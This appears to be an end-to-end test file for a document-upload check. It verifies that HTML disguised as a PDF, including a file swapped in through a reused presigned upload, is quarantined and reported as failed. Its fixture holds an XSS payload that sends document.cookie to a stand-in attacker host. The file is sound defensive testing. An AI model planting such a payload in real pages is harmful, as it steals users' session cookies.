"""The upload check over HTTP on the local system: the bucket's ObjectCreated notification (from
the template) runs the check function; HTML declared as PDF is quarantined, its uploader told,
refused in an application, and shown 校验未通过 on the case to the applicant and the staff."""

from __future__ import annotations

import time
from pathlib import Path

import requests

from tests.e2e.conftest import Client, new_key, wait_for_status
from tests.e2e.test_api_flow import application_for, market_item

REAL_PDF = (Path(__file__).resolve().parents[1] / "data" / "uploads" / "real.pdf").read_bytes()
HTML = b"<!DOCTYPE html><html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"


def ticket_for(citizen: Client, name: str, size: int) -> dict:
    response = citizen.post("/uploads", {"file_name": name, "content_type": "application/pdf", "size_bytes": size})
    assert response.status_code == 201, response.text
    return response.json()


def post_file(ticket: dict, name: str, content: bytes) -> None:
    stored = requests.post(ticket["url"], data=ticket["fields"], files={"file": (name, content, "application/pdf")}, timeout=30)
    assert stored.status_code in (200, 204), stored.text


def poll(fetch, until, timeout: float = 15):
    deadline = time.monotonic() + timeout
    while True:
        value = fetch()
        if until(value) or time.monotonic() > deadline:
            return value
        time.sleep(0.1)


def upload_notes(citizen: Client) -> list[dict]:
    return [n for n in citizen.get("/my/notifications", params={"limit": 100}).json()["items"] if n["subject_kind"] == "upload"]


def test_html_declared_as_pdf_is_told_to_its_uploader_and_refused_in_an_application(public, login):
    citizen = login("citizen2")
    ticket = ticket_for(citizen, "营业执照.pdf", len(HTML))
    post_file(ticket, "营业执照.pdf", HTML)

    notes = poll(lambda: upload_notes(citizen), lambda found: any(n["subject_id"] == ticket["upload_id"] for n in found))
    note = next(n for n in notes if n["subject_id"] == ticket["upload_id"])
    assert note["title"] == "上传的文件未通过校验"
    assert "“营业执照.pdf”" in note["body"] and "网页或脚本" in note["body"] and "已被隔离" in note["body"]

    detail = public.get(f"/catalog/{market_item(public)['item_code']}").json()
    refused = citizen.post("/applications", application_for(detail, [ticket["upload_id"]]), key=new_key())
    assert refused.status_code == 422
    assert "未通过校验" in refused.json()["message"]


def case_with_a_swapped_attachment(public: Client, citizen: Client, window: Client) -> tuple[str, str]:
    """A case whose checked PDF is then overwritten with HTML through the still-valid presigned POST
    (the POST stays valid for minutes); returns the case id and the attachment id once the second
    check has failed it."""
    ticket = ticket_for(citizen, "申请书.pdf", len(REAL_PDF))
    post_file(ticket, "申请书.pdf", REAL_PDF)
    detail = public.get(f"/catalog/{market_item(public)['item_code']}").json()
    applied = citizen.post("/applications", application_for(detail, [ticket["upload_id"]]), key=new_key())
    assert applied.status_code == 201, applied.text
    case_id = applied.json()["case_id"]

    mine = poll(lambda: citizen.get(f"/my/cases/{case_id}").json(), lambda v: v["attachments"][0]["check_status"] == "passed")
    assert mine["attachments"][0]["check_status_label"] == "已校验"
    wait_for_status(window, case_id, "accept")
    assert window.get(f"/cases/{case_id}/attachments/{ticket['upload_id']}").status_code == 200

    post_file(ticket, "申请书.pdf", HTML)
    poll(lambda: citizen.get(f"/my/cases/{case_id}").json(), lambda v: v["attachments"][0]["check_status"] == "failed")
    return case_id, ticket["upload_id"]


def test_a_file_swapped_for_html_after_applying_shows_failed_to_applicant_and_staff(public, login):
    citizen, window = login("citizen1"), login("market.window")
    case_id, upload_id = case_with_a_swapped_attachment(public, citizen, window)

    [attachment] = citizen.get(f"/my/cases/{case_id}").json()["attachments"]
    assert (attachment["check_status"], attachment["check_status_label"]) == ("failed", "校验未通过")
    assert "网页或脚本" in attachment["check_reason"]
    [seen_by_staff] = window.get(f"/cases/{case_id}").json()["attachments"]
    assert (seen_by_staff["check_status"], seen_by_staff["check_status_label"]) == ("failed", "校验未通过")
    download = window.get(f"/cases/{case_id}/attachments/{upload_id}")
    assert download.status_code == 409 and "已被隔离" in download.json()["message"]
